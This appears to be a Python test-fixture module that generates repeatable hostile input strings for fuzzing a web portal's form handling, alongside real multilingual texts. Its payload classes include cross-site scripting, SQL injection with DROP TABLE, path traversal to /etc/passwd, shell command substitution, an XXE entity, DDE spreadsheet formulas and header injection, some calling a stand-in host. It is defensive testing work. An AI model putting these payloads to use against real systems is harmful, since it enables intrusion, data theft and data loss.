"""Hostile strings by class, the same in every run, and honest texts in the scripts of the world.

`strings(n)` are n strings, the classes taken in turn, so that any beginning of the list has all of them. A lone
surrogate cannot be written in UTF-8: `percent` writes the bytes that a hostile client would send for it.
"""

# ruff: noqa: E501 - rows of examples

import csv
import random
import unicodedata
from itertools import islice
from pathlib import Path
from urllib.parse import quote_from_bytes

from babel import Locale

ROOT = Path(__file__).resolve().parent.parent
RAN = "window.hostile=(window.hostile||0)+1"  # what a script of theirs would leave behind in a browser
FOREIGN = "foreign.invalid"  # a host that nothing may ask for
WORDS = ("migrants", "Hafen", "العمال", "порт", "移民", "señas")


def _scripts(dice):
    handlers = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter")
    tags = (
        "img src=x",
        "svg",
        "input autofocus",
        "details open",
        "video src=x",
        "body",
        "marquee",
        "iframe",
        "math",
        "a href=x",
    )
    breaks = ("", '"', "'", "</textarea>", "</title>", "-->", "]]>", '">', "'>", "</script>", "</option></select>", "`")
    while True:
        handler, tag, end = dice.choice(handlers), dice.choice(tags), dice.choice(breaks)
        yield f"{end}<script>{RAN}</script>"
        yield f"{end}<{tag} {handler}={RAN}>"
        yield f"{end}<{tag}/{handler}='{RAN}'//"
        yield f'" {handler}="{RAN}" x="'
        yield f"{end}<script src=//{FOREIGN}/{dice.randrange(999)}.js></script>"
        yield f"{end}<img src=//{FOREIGN}/{dice.randrange(999)}.png>"
        yield f"{end}<style>@import '//{FOREIGN}/x.css'</style><link rel=stylesheet href=//{FOREIGN}/y.css>"
        yield f"{end}<iframe srcdoc='<script>{RAN.replace('window', 'parent')}</script>'></iframe>"
        yield f"[{dice.choice(WORDS)}](javascript:{RAN})"
        yield f"![{dice.choice(WORDS)}](//{FOREIGN}/{dice.randrange(999)}.png)"
        yield f"<a href=' java\tscript:{RAN}'>{dice.choice(WORDS)}</a>"
        yield f"[x](<data:text/html,<script>{RAN}</script>>) <javascript:{RAN}>"
        yield f"<ScRiPt >{RAN}</sCrIpT ><svg><animate onbegin={RAN} attributeName=x dur=1s>"
        yield f"<form action=//{FOREIGN}/><button>{dice.choice(WORDS)}</button></form><base href=//{FOREIGN}/>"
        yield f"<meta http-equiv=refresh content='0;url=//{FOREIGN}/'>{dice.randrange(999)}"


def _templates(dice):
    while True:
        number = dice.randrange(10, 99)
        yield from (
            f"{{{{{number}*{number}}}}}", f"{{% include 'base.html' %}}{number}", "{{ settings.SECRET_KEY }}" + str(number),
            f"${{{number}*{number}}}", f"#{{{number}*{number}}}", f"<%= {number}*{number} %>", f"{{{{''.__class__.__mro__[1]}}}}{number}",
            f"{{% load i18n %}}{{% translate 'x{number}' %}}", f"{{{{request.user.password}}}} {number}", f"{{# {number} #}}",
        )  # fmt: skip


def _formats(dice):
    while True:
        number = dice.randrange(10, 99)
        yield from (
            f"%s%n%x %({number})s", "%(call)s %(contact)s " + str(number), f"{{0.__class__}} {number}", f"{{call}} {{{number}}}",
            f"%{number}d %", "%%s" * number, f"%1$s %{number}$n", "{}" * number, f"{number} %", f"%(secret{number})r",
        )  # fmt: skip


def _sql(dice):
    ends = ("--", "#", ";--", "/*", "')--", '")--')
    while True:
        number, end = dice.randrange(10, 99), dice.choice(ends)
        yield from (
            f"' OR {number}={number} {end}", f"'; DROP TABLE submissions_submission {end}{number}", f"\" OR \"\"=\"{number}",
            f"1) UNION SELECT {number},version() {end}", f"\\'{number}", f"$${number}$$", f"'||pg_sleep(9)||'{number}",
            f"a & b | ! <-> ({number}", f"''{number}:*", f"%_{number}\\", f"E'\\x{number}'", f"a <-> <{number}> b & :",
        )  # fmt: skip


def _controls(dice):
    while True:
        sign = chr(dice.choice([*range(1, 9), 0xB, 0xC, *range(0xE, 0x20), 0x7F, *range(0x80, 0xA0)]))
        word = dice.choice(WORDS)
        yield from (
            f"{word}{sign}{word}",
            f"{sign}{word}",
            f"{word}{sign}",
            f"\x00{word}{dice.randrange(99)}",
            f"{word}\x00{sign}\x00",
        )


def _surrogates(dice):
    while True:
        yield f"{dice.choice(WORDS)}{chr(dice.randrange(0xD800, 0xE000))}{dice.choice(WORDS)}"
        yield f"{chr(dice.randrange(0xDC00, 0xE000))}{chr(dice.randrange(0xD800, 0xDC00))}"
        yield f"{dice.choice(WORDS)}{chr(dice.choice([0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF]))}{dice.randrange(99)}"


def _directions(dice):
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    while True:
        yield f"annex{dice.choice(marks)}fdp.exe{dice.randrange(99)}"
        yield "".join(dice.choice(marks) + dice.choice(WORDS) for _ in range(dice.randrange(2, 9)))
        yield f"العمال {dice.randrange(99)} (IMRF) {dice.choice(marks)}A/RES/73/326"


def _without_width(dice):
    signs = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u3164\ufe0f\u2028\u2029\u2800\U000e0041\u115f\u17b4"
    while True:
        yield "".join(letter + dice.choice(signs) for letter in dice.choice(WORDS))
        yield dice.choice(signs) * dice.randrange(1, 40)
        yield f"{dice.choice(signs)}{dice.choice(WORDS)}{dice.randrange(99)}{dice.choice(signs)}"


def _towers(dice):
    while True:
        height = dice.randrange(3, 60)
        yield "".join(letter + "".join(chr(dice.randrange(0x300, 0x370)) for _ in range(height)) for letter in "tower")
        yield f"a{chr(dice.randrange(0x300, 0x370)) * dice.randrange(100, 250)}{dice.randrange(99)}"
        yield f"{dice.choice(WORDS)}" + "\u0489" * height


def _formulas(dice):
    while True:
        number = dice.randrange(10, 99)
        yield from (
            f"=HYPERLINK(\"http://{FOREIGN}/{number}\")", f"+{number}+cmd|' /C calc'!A0", f"-{number}+{number}", f"@SUM({number})",
            f"\t={number}*2", f"\r=1+{number}", f";={number}", f"＝{number}+1", f"\"={number}\"", f"=DDE(\"x\";\"{number}\")",
        )  # fmt: skip


def _headers(dice):
    while True:
        number = dice.randrange(10, 99)
        yield from (
            f"x\r\nSet-Cookie: hostile={number}", f"x\nBcc: everybody{number}@{FOREIGN}", f"x\r\n\r\n<script>{RAN}</script>{number}",
            f"x%0d%0aLocation: //{FOREIGN}/{number}", f"x\u560a\u560dX-Hostile: {number}", f"\"; filename=\"x{number}.html",
            f"x\u2028X-Hostile: {number}", f"//{FOREIGN}/{number}", f"/\\{FOREIGN}/{number}", f"https://{FOREIGN}@{number}",
        )  # fmt: skip


def _paths(dice):
    while True:
        depth, number = dice.randrange(1, 9), dice.randrange(10, 99)
        yield from (
            f"{'../' * depth}etc/passwd", f"{'..%2f' * depth}etc/passwd{number}", f"file:///etc/passwd#{number}", f"C:\\{number}\\x.exe",
            f"annex{number}.pdf.html", f"annex{number}.pdf ", "..\\" * depth + "win.ini", f"con{number}", f".htaccess{number}",
            f"|cat /etc/passwd;{number}", f"`id`{number}", f"$(sleep {number})", f"-rf {number}", f"~root/{number}",
        )  # fmt: skip


def _entities(dice):
    while True:
        number = dice.randrange(10, 99)
        yield from (
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{number}</x>', f"&#{number};&lt;script&gt;&amp;amp;",
            f"<![CDATA[<script>{RAN}</script>]]>{number}", "&e;" * number, f"&#0;&#x{number};&NewLine;&colon;", f"<?xml version='1.{number}'?>",
            f"<?php echo {number} ?>", f"<!--#exec cmd='id' -->{number}", f"&lt;img src=x onerror={RAN}&gt;{number}",
        )  # fmt: skip


def _forms(dice):
    pairs = ("é", "ñ", "ﬁ", "Å", "각", "が", "ở", "ﷺ", "①", "K", "½", "\u1e9b\u0323", "क़")
    while True:
        for form in ("NFC", "NFD", "NFKD"):
            yield unicodedata.normalize(form, "".join(dice.choice(pairs) for _ in range(dice.randrange(3, 20))))


def _pictures(dice):
    signs = ("👩‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇳", "🤷🏽‍♀️", "🕌", "1️⃣", "𝕳𝖔𝖕𝖊", "𐍈", "🫱🏿‍🫲🏻", "♾️")
    while True:
        yield "".join(dice.choice(signs) for _ in range(dice.randrange(1, 15)))
        yield f"{dice.choice(WORDS)} {dice.choice(signs)} {dice.randrange(99)}"


def _long(dice):
    while True:
        sign = dice.choice(["a", "é", "移", "𝕳", "<", "*", "&", "(", "\\", "'", "[", "`", ">", "#"])
        yield sign * dice.choice([255, 299, 300, 301, 1000, 4999, 5001])
        yield f"{dice.choice(WORDS)} " * dice.choice([50, 500])
        yield "[" * dice.randrange(50, 400) + "](" * dice.randrange(50, 400)
        yield ">" * dice.randrange(20, 300) + " " + "* " * dice.randrange(20, 300)


def _numbers(dice):
    while True:
        yield from (
            "9" * dice.randrange(5, 400), "-1", "1e309", "NaN", "Infinity", "0x1F", "1_000", "٣٤", "①", "²", "true", "null", "undefined",
            "[]", "{}", f"{dice.randrange(-10**12, 10**12)}", "00000000-0000-0000-0000-000000000000", "0", "", " ",
        )  # fmt: skip


CLASSES = {
    "script": _scripts, "template": _templates, "format": _formats, "sql": _sql, "control": _controls,
    "surrogate": _surrogates, "direction": _directions, "without width": _without_width, "tower": _towers,
    "formula": _formulas, "header": _headers, "path": _paths, "entity": _entities, "form": _forms, "picture": _pictures,
    "long": _long, "number": _numbers,
}  # fmt: skip


def strings(count: int) -> list[str]:
    """So many different hostile strings, the classes in turn."""
    dice = random.Random(7)
    sources, found = [make(dice) for make in CLASSES.values()], {}
    while len(found) < count:
        for source in sources:
            found.setdefault(next(one for one in islice(source, 300) if one not in found))
    return list(found)[:count]


def percent(text: str) -> str:
    """The string as a form sends it, lone surrogates as the three bytes that are no UTF-8."""
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="")


def as_received(text: str) -> str:
    """What any server makes of those bytes: what is no UTF-8 becomes the sign for it."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def form_body(answers) -> str:
    """Pairs of name and value as the body of a form."""
    return "&".join(f"{percent(name)}={percent(value)}" for name, value in answers)


# The stated normalisation, said here a second time and in other words than the portal's ------------------------------


def as_text(typed: str) -> str:
    """A text: NFC, line ends as LF, no control characters but tab and line end, nothing white around it."""
    kept = "".join(sign for sign in as_received(typed) if unicodedata.category(sign) != "Cc" or sign in "\t\n\r")
    return unicodedata.normalize("NFC", kept).replace("\r\n", "\n").replace("\r", "\n").strip()


def as_line(typed: str) -> str:
    """A title: the same on one line, white space as single spaces, without marks that turn its direction."""
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return " ".join(as_text("".join(sign for sign in typed if sign not in turning)).split())


# Honest ones ---------------------------------------------------------------------------------------------------------

LOCALES = [
    "am",
    "ar",
    "bn",
    "bo",
    "cs",
    "de",
    "el",
    "es",
    "fa",
    "fr",
    "gu",
    "he",
    "hi",
    "hy",
    "ja",
    "ka",
    "km",
    "kn",
    "ko",
    "lo",
    "ml",
    "mn",
    "my",
    "ne",
    "or",
    "pa",
    "ps",
    "ru",
    "si",
    "sw",
    "ta",
    "te",
    "th",
    "ti",
    "tr",
    "uk",
    "ur",
    "vi",
    "zh",
    "zh_Hant",
]
PLACES = ("KE", "NP", "MX", "PH", "MA", "UA", "BD", "FR")


def honest_texts() -> list[str]:
    """Real words of the world's languages: names of countries and months as the Unicode Consortium keeps them."""
    texts = []
    for code in LOCALES:
        locale = Locale.parse(code)
        countries = [locale.territories[place] for place in PLACES if place in locale.territories]
        months = list(locale.months["format"]["wide"].values())
        texts += [f"{country}: {', '.join(months[number : number + 4])}." for number, country in enumerate(countries)]
    return texts


def honest_names(count: int) -> list[str]:
    """Real names of organisations from the shipped registers, first those with the most signs beyond ASCII."""
    names = set()
    for register, column in (("ecosoc_ngos", "name"), ("nhri", "institution")):
        with (ROOT / f"accreditation/reference/{register}.csv").open(encoding="utf-8") as file:
            names |= {row[column].strip() for row in csv.DictReader(file)}
    return sorted(names, key=lambda name: (name.isascii(), sum(map(str.isascii, name)), name))[:count]
